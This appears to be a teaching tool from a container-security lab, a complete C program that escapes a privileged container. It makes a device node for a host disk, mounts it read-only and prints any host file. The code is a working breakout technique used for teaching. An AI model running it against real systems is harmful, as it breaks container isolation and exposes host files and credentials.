/* breakout-disk: reach the machine's disk from inside a container, for step
 * 07's lesson.
 *
 * A process that keeps CAP_MKNOD and CAP_SYS_ADMIN can make a device node for
 * any disk of the machine (it only needs the major and minor numbers, which
 * /proc/partitions and /sys list), mount it, and read or write any file on
 * it: namespaces do not stop that, only capabilities and the devices cgroup
 * do. This is `docker run --privileged -v /:/host` without the -v.
 *
 * Usage: breakout-disk MAJOR:MINOR FILE   makes /dev/breakout-disk-PID for
 *        the block device MAJOR:MINOR, mounts it read-only on a directory of
 *        /tmp and prints FILE (a path inside that file system). Exit 0 if it
 *        read the file, 1 if the kernel refused a step, 2 on bad usage. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int refused(const char *call, const char *path)
{
	int saved = errno;
	const char *name = strerrorname_np(saved);

	fprintf(stderr, "breakout-disk: %s(%s): %s (%s): the escape failed\n", call, path,
		name ? name : "E?", strerror(saved));
	return 1;
}

static int print_file(const char *path)
{
	char buf[4096];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return refused("open", path);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		if (write(STDOUT_FILENO, buf, (size_t)n) != n)
			break;
	close(fd);
	return n == 0 ? 0 : refused("read", path);
}

int main(int argc, char **argv)
{
	static const char *const types[] = { "ext4", "ext2", "vfat" };
	char node[64], dir[64], file[4096];
	unsigned maj, min;
	int status = 1;

	if (argc != 3 || sscanf(argv[1], "%u:%u", &maj, &min) != 2) {
		fprintf(stderr, "usage: breakout-disk MAJOR:MINOR FILE\n");
		return 2;
	}
	snprintf(node, sizeof(node), "/dev/breakout-disk-%d", (int)getpid());
	snprintf(dir, sizeof(dir), "/tmp/breakout-disk-%d", (int)getpid());
	snprintf(file, sizeof(file), "%s/%s", dir, argv[2]);

	/* The device node: CAP_MKNOD (and the devices cgroup) decide; see mknod(2). */
	if (mknod(node, S_IFBLK | 0600, makedev(maj, min)) < 0)
		return refused("mknod", node);
	fprintf(stderr, "breakout-disk: mknod(%s, block %u:%u) worked\n", node, maj, min);
	if (mkdir(dir, 0700) < 0) {
		status = refused("mkdir", dir);
		goto out_node;
	}
	/* Mounting it: CAP_SYS_ADMIN decides; see mount(2). */
	errno = ENODEV;
	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
		if (mount(node, dir, types[i], MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC,
			  NULL) == 0) {
			fprintf(stderr, "breakout-disk: mount(%s, %s, %s) worked; this is %s:\n",
				node, dir, types[i], argv[2]);
			status = print_file(file);
			umount2(dir, MNT_DETACH);
			goto out_dir;
		}
		if (errno != EINVAL && errno != ENODEV)
			break; /* EPERM and the like: another type will not help */
	}
	status = refused("mount", node);
out_dir:
	rmdir(dir);
out_node:
	unlink(node);
	return status;
}
